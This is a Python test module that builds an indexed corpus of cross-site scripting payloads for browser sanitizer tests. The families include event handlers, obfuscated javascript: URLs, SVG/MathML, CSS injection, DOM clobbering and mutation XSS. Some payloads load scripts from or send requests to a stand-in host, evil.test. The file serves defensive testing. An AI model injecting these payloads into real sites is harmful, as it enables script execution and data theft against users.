"""A corpus of cross-site scripting payloads for the browser tests (threat T12).

Each payload, if it ever ran, leaves a trace the tests detect: it calls ``alert(N)`` (the
tripwire replaces ``alert``/``confirm``/``prompt``/``print`` and records the call), pushes
to ``window.__xss``, or loads ``http://evil.test/N`` (recorded as a foreign request). ``N``
is the payload's index in :data:`PAYLOADS`, so a failure names the payload that worked.

The templates below use two tokens, replaced per payload:

- ``ALERT``: JavaScript that reports the hit, ``alert(N)``;
- ``EVIL``: an absolute URL on a foreign origin, ``http://evil.test/N``.

Families (cheat-sheet classes from OWASP and PortSwigger):

- raw HTML with event handlers on many tags;
- dangerous URL schemes (``javascript:``, ``data:``, ``vbscript:``) with case, whitespace,
  entity, percent and control-character obfuscation, each in five contexts: markdown
  link, markdown image, reference link, autolink and HTML anchor;
- SVG and MathML, CSS injection, DOM clobbering, template/iframe/srcdoc/object/embed/
  base/meta refresh/form action, mutation XSS, markdown edge cases, and Unicode tricks.
"""

from __future__ import annotations

__all__ = ["PAYLOADS", "Payload", "fitting"]

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    index: int
    family: str
    text: str


# --- raw HTML: event handlers on many tags --------------------------------------------

_EVENT_HANDLERS = [
    "<img src=x onerror=ALERT>",
    '<img src="x" onerror="ALERT">',
    "<IMG SRC=x OnErRoR=ALERT>",
    "<img src=x onerror=ALERT//",
    "<img/src=x/onerror=ALERT>",
    "<img src=x onerror\t=\tALERT>",
    "<img src=x onerror\n=ALERT>",
    "<img src=x:x onerror=ALERT>",
    "<img src onerror=ALERT>",
    '<img src="x` `<script>ALERT</script>"` `>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<image src=x onerror=ALERT>",
    "<svg onload=ALERT>",
    "<svg/onload=ALERT>",
    "<svg><animate onbegin=ALERT attributeName=x dur=1s>",
    "<svg><set onbegin=ALERT attributename=x to=1>",
    "<body onload=ALERT>",
    "<body onpageshow=ALERT>",
    "<video src=x onerror=ALERT></video>",
    "<video><source onerror=ALERT></video>",
    "<audio src=x onerror=ALERT></audio>",
    "<details open ontoggle=ALERT>",
    "<input autofocus onfocus=ALERT>",
    "<input type=image src=x onerror=ALERT>",
    "<select autofocus onfocus=ALERT></select>",
    "<textarea autofocus onfocus=ALERT></textarea>",
    "<keygen autofocus onfocus=ALERT>",
    "<iframe onload=ALERT></iframe>",
    "<object data=x onerror=ALERT></object>",
    "<marquee onstart=ALERT>x</marquee>",
    "<div onmouseover=ALERT style=position:fixed;inset:0>hover</div>",
    "<div onpointerenter=ALERT style=position:fixed;inset:0>x</div>",
    '<a onmouseover="ALERT" href="#">x</a>',
    "<a href=# onclick=ALERT>click</a>",
    "<form><button formaction=javascript:ALERT>x</button></form>",
    "<form><input type=submit formaction=javascript:ALERT></form>",
    "<style onload=ALERT></style>",
    "<link rel=stylesheet href=x onerror=ALERT>",
    "<div style=animation-name:x onanimationstart=ALERT>",
    "<p ontransitionend=ALERT style=transition:color 1s>x</p>",
    "<x contenteditable onfocus=ALERT autofocus>x</x>",
    "<xss id=x tabindex=1 onfocus=ALERT></xss>",
    "<table background=EVIL><tr><td>x</td></tr></table>",
    "<td background=EVIL>x</td>",
    "<img srcset=EVIL>",
    "<picture><source srcset=EVIL><img src=x></picture>",
    "<video poster=EVIL></video>",
    "<input type=image src=EVIL>",
    "<img src=EVIL>",
    "<img src='EVIL' loading=eager>",
    "<script>ALERT</script>",
    "<SCRIPT>ALERT</SCRIPT>",
    "<script src=EVIL></script>",
    "<script>/*</script><script>*/ALERT</script>",
    "<scr<script>ipt>ALERT</scr</script>ipt>",
    "<<script>script>ALERT<</script>/script>",
    "<script\n>ALERT</script\n>",
    "<script type=module>ALERT</script>",
    "<script>window.__xss.push(1)</script>",
    '"><script>ALERT</script>',
    "'><img src=x onerror=ALERT>",
    "</textarea><script>ALERT</script>",
    "</title><script>ALERT</script>",
    "</style><script>ALERT</script>",
    "--><script>ALERT</script>",
    "]]><script>ALERT</script>",
]

# --- dangerous URLs, obfuscated, in five contexts -------------------------------------

_URLS = [
    "javascript:ALERT",
    "JaVaScRiPt:ALERT",
    "JAVASCRIPT:ALERT",
    " javascript:ALERT",
    "java\tscript:ALERT",
    "java\nscript:ALERT",
    "java&#x09;script:ALERT",
    "java&#10;script:ALERT",
    "&#106;avascript:ALERT",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:ALERT",
    "javascript&colon;ALERT",
    "javascript&#58;ALERT",
    "javas&#99;ript:ALERT",
    "%6A%61%76%61%73%63%72%69%70%74:ALERT",
    "\x01javascript:ALERT",
    "\x0bjavascript:ALERT",
    "javascript://%0aALERT",
    "javascript://comment%0AALERT",
    "java\u200bscript:ALERT",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1aALERT",
    "data:text/html,<script>ALERT</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=ALERT>",
    "vbscript:msgbox(1)",
    "VBScript:ALERT",
    "livescript:ALERT",
]


def _url_contexts(url: str) -> list[str]:
    return [
        f"[click me]({url})",
        f"![pic]({url})",
        f"[ref link][r1]\n\n[r1]: {url}",
        f"<{url}>",
        f'<a href="{url}">anchor</a>',
    ]


# --- SVG and MathML ---------------------------------------------------------------------

_SVG_MATHML = [
    "<svg><script>ALERT</script></svg>",
    "<svg><script href=EVIL /></svg>",
    '<svg><a xlink:href="javascript:ALERT"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:ALERT"><circle r=100 /></a></svg>',
    "<svg><image href=EVIL /></svg>",
    "<svg><use href=EVIL#x /></svg>",
    "<svg><foreignObject><img src=x onerror=ALERT></foreignObject></svg>",
    "<svg><style>@import 'EVIL';</style></svg>",
    "<svg><animate attributeName=href values=javascript:ALERT /><a><text>x</text></a></svg>",
    "<svg><title><img src=x onerror=ALERT></title></svg>",
    "<svg><desc><![CDATA[</desc><script>ALERT</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ALERT>",
    '<math href="javascript:ALERT">click</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:ALERT>x</maction></math>",
    "<math><mi xlink:href=data:x,<script>ALERT</script>>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=ALERT></annotation-xml>",
]

# --- CSS injection --------------------------------------------------------------------

_CSS = [
    "<style>@import 'EVIL';</style>",
    "<style>@import url(EVIL);</style>",
    "<style>body{background:url(EVIL)}</style>",
    "<style>*{display:none}</style>",
    "<style>input[value^=a]{background:url(EVIL)}</style>",
    "<style>@font-face{font-family:x;src:url(EVIL)}body{font-family:x}</style>",
    '<div style="background:url(EVIL)">bg</div>',
    '<div style="background-image:url(&quot;EVIL&quot;)">bg</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</p>',
    '<span style="behavior:url(EVIL)">x</span>',
    '<div style="width:expression(ALERT)">x</div>',
    '<div style="list-style:url(EVIL)">x</div>',
    '<div style="--x:url(EVIL);background:var(--x)">x</div>',
    "<link rel=stylesheet href=EVIL>",
    "<link rel=import href=EVIL>",
    "<link rel=preload as=script href=EVIL>",
]

# --- DOM clobbering -------------------------------------------------------------------

_CLOBBERING = [
    "<img name=alert src=x>",
    "<a id=__xss></a><a id=__xss name=push href=javascript:ALERT>x</a>",
    "<form id=__csp><input name=push></form>",
    "<img id=defaultView name=x>",
    "<form name=body><input name=innerHTML></form>",
    "<a id=location href=javascript:ALERT>x</a>",
    '<iframe name=__redoubt src="javascript:ALERT"></iframe>',
    "<img name=cookie>",
    "<form id=test><input id=attributes></form>",
    "<embed name=getElementById>",
    "<object id=config data=EVIL></object>",
    "<a id=config><a id=config name=url href=javascript:ALERT>",
]

# --- frames, plugins, navigation, forms ------------------------------------------------

_FRAMES_AND_FRIENDS = [
    "<iframe src=javascript:ALERT></iframe>",
    "<iframe src=EVIL></iframe>",
    '<iframe srcdoc="<script>parent.ALERT</script>"></iframe>',
    "<iframe srcdoc=&lt;img&#32;src&#61;x&#32;onerror&#61;ALERT&gt;></iframe>",
    "<iframe src=data:text/html,<script>ALERT</script>></iframe>",
    "<frameset><frame src=javascript:ALERT></frameset>",
    "<object data=javascript:ALERT></object>",
    "<object data=EVIL type=text/html></object>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:ALERT>",
    "<embed src=EVIL>",
    "<embed code=EVIL allowscriptaccess=always>",
    "<applet code=x codebase=EVIL></applet>",
    "<base href=EVIL/>",
    "<base href=javascript:/a/-ALERT///////>",
    '<meta http-equiv="refresh" content="0;url=javascript:ALERT">',
    '<meta http-equiv="refresh" content="0;EVIL">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "<form action=javascript:ALERT><input type=submit></form>",
    "<form action=EVIL method=post><input name=x value=y><button>go</button></form>",
    "<isindex action=javascript:ALERT type=image>",
    "<template><img src=x onerror=ALERT></template>",
    "<template><script>ALERT</script></template>",
    "<portal src=EVIL></portal>",
    "<dialog open><img src=x onerror=ALERT></dialog>",
    "<a href=EVIL ping=EVIL>ping</a>",
    "<area shape=rect coords=0,0,99,99 href=javascript:ALERT>",
    "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=ALERT>",
]

# --- mutation XSS and parser differentials -----------------------------------------------

_MXSS = [
    '<noscript><p title="</noscript><img src=x onerror=ALERT>"></noscript>',
    '<p title="</p><img src=x onerror=ALERT>">x</p>',
    "<listing>&lt;img src=x onerror=ALERT&gt;</listing>",
    "<xmp><img src=x onerror=ALERT></xmp>",
    '<noembed><img title="</noembed><img src=x onerror=ALERT>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=ALERT>"></noframes>',
    '<svg></p><style><a id="</style><img src=x onerror=ALERT>">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src=x onerror=ALERT>"></style></h1>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ALERT>",
    '<svg><p><style><g title="</style><img src=x onerror=ALERT>">',
    '<textarea><img title="</textarea><img src=x onerror=ALERT>"></textarea>',
    '<title><img title="</title><img src=x onerror=ALERT>"></title>',
    "<select><template><img src=x onerror=ALERT></template></select>",
    "<table><caption><svg><style><img src=x onerror=ALERT>",
    "<!--><img src=x onerror=ALERT>-->",
    "<!-- --!><img src=x onerror=ALERT>-->",
    "<?xml-stylesheet href=EVIL?><img src=x onerror=ALERT>",
    "<![CDATA[><img src=x onerror=ALERT>]]>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058ALERT">zero-padded</a>',
    '<img src="x" alt="``onerror=ALERT">',
    "<div><svg><xss><desc><noscript>&lt;/noscript>&lt;img src=x onerror=ALERT&gt;",
]

# --- markdown edge cases --------------------------------------------------------------

_MARKDOWN = [
    "[x](javascript:ALERT 'title')",
    '[x](javascript:ALERT "a" onmouseover="ALERT")',
    "[x]( javascript:ALERT )",
    "[x](<javascript:ALERT>)",
    "[x](javascript&#58;ALERT)",
    "[x](javascript:ALERT)\n[y](javascript:ALERT)",
    "[[x](javascript:ALERT)](EVIL)",
    "[![img](EVIL)](javascript:ALERT)",
    '![x](x"onerror="ALERT)',
    '![x](EVIL "title")',
    '![x"onerror="ALERT](x)',
    '[x](#"onmouseover="ALERT)',
    '[x](https://example.com"onclick="ALERT)',
    "[a](javascript:window.__xss.push(1))",
    "[a][b]\n\n[b]: javascript:ALERT 'title'",
    "[a]\n\n[a]: <javascript:ALERT>",
    "[a][]\n\n[a]: EVIL",
    "![a][img]\n\n[img]: EVIL",
    "<javascript:ALERT>",
    "<javas\u0001cript:ALERT>",
    '<http://a.b/"onmouseover="ALERT>',
    "<mailto:a@b.c?body=<script>ALERT</script>>",
    "www.evil.test/<script>ALERT</script>",
    "`<img src=x onerror=ALERT>`",
    "```html\n<script>ALERT</script>\n```",
    "```\n</code></pre><img src=x onerror=ALERT>\n```",
    "``` onerror=ALERT\ncode\n```",
    '```"><img src=x onerror=ALERT>\ncode\n```',
    "> <img src=x onerror=ALERT>",
    "- <img src=x onerror=ALERT>\n- [x](javascript:ALERT)",
    "| a | b |\n|---|---|\n| <img src=x onerror=ALERT> | [x](javascript:ALERT) |",
    "# <script>ALERT</script>",
    "*<img src=x onerror=ALERT>*",
    "**[bold](javascript:ALERT)**",
    "_<a href='javascript:ALERT'>u</a>_",
    "<div>\n\n[x](javascript:ALERT)\n\n</div>",
    "<details><summary>x</summary>\n\n<img src=x onerror=ALERT>\n\n</details>",
    "\\<img src=x onerror=ALERT>",
    "&lt;img src=x onerror=ALERT&gt;",
    "&#60;img src=x onerror=ALERT&#62;",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.test/scheme-relative)",
    "[x](\\\\evil.test\\share)",
    "![x](//evil.test/pixel.png)",
    "![x](https://evil.test/pixel.png)",
    ":x:<img src=x onerror=ALERT>:x:",
    "@<img src=x onerror=ALERT>",
    "@here <img src=x onerror=ALERT>",
    "[x](javascript:ALERT)" * 20,
    "<" * 200 + "img src=x onerror=ALERT>",
    "[" * 100 + "x](javascript:ALERT)" + "]" * 100,
    "*" * 300 + "<img src=x onerror=ALERT>",
]

# --- Unicode tricks -------------------------------------------------------------------

_UNICODE = [
    "\uff1cimg src=x onerror=ALERT\uff1e",
    "\uff1cscript\uff1eALERT\uff1c/script\uff1e",
    "<img src=x on\u200berror=ALERT>",
    "<scr\u200bipt>ALERT</scr\u200bipt>",
    "\u202e>tpircs/<ALERT>tpircs<",
    "[\u202egnp.exe](javascript:ALERT)",
    "<img src=x onerror=\u0061lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "\u2028<img src=x onerror=ALERT>\u2029",
    "<img src=x onerror=ALERT\ufeff>",
    "\ufe64img src=x onerror=ALERT\ufe65",
    "\u3008img src=x onerror=ALERT\u3009",
    "%3Cimg%20src%3Dx%20onerror%3DALERT%3E",
    "&lt;script&gt;ALERT&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ALERT&amp;lt;/script&amp;gt;",
    "\\x3cimg src=x onerror=ALERT\\x3e",
]

# --- template and framework gadgets (harmless to a static renderer; catch regressions) ----

_GADGETS = [
    "{{constructor.constructor('ALERT')()}}",
    "${ALERT}",
    "<div data-bind=\"html: '<img src=x onerror=ALERT>'\"></div>",
    "<div v-html=\"'<img src=x onerror=ALERT>'\"></div>",
    "<div ng-app ng-csp><div ng-click=$event.view.ALERT>x</div></div>",
    "<x dangerouslySetInnerHTML={{__html:'<img src=x onerror=ALERT>'}}/>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=import('EVIL')>",
    "<img src=x onerror=fetch('EVIL')>",
    "<img src=x onerror=location='EVIL'>",
    "<img src=x onerror=window.open('EVIL')>",
    "<img src=x onerror=top.__xss.push(1)>",
]


def _build() -> tuple[Payload, ...]:
    templates: list[tuple[str, str]] = []
    templates += [("event-handler", t) for t in _EVENT_HANDLERS]
    for url in _URLS:
        templates += [("url", t) for t in _url_contexts(url)]
    templates += [("svg-mathml", t) for t in _SVG_MATHML]
    templates += [("css", t) for t in _CSS]
    templates += [("clobbering", t) for t in _CLOBBERING]
    templates += [("frames", t) for t in _FRAMES_AND_FRIENDS]
    templates += [("mxss", t) for t in _MXSS]
    templates += [("markdown", t) for t in _MARKDOWN]
    templates += [("unicode", t) for t in _UNICODE]
    templates += [("gadget", t) for t in _GADGETS]

    payloads: list[Payload] = []
    seen: set[str] = set()
    for family, template in templates:
        if template in seen:
            continue
        seen.add(template)
        index = len(payloads)
        text = template.replace("ALERT", f"alert({index})").replace(
            "EVIL", f"http://evil.test/{index}"
        )
        payloads.append(Payload(index, family, text))
    return tuple(payloads)


PAYLOADS: tuple[Payload, ...] = _build()


def fitting(limit: int) -> list[Payload]:
    """The payloads no longer than ``limit`` characters (for bounded fields)."""
    return [p for p in PAYLOADS if len(p.text) <= limit]
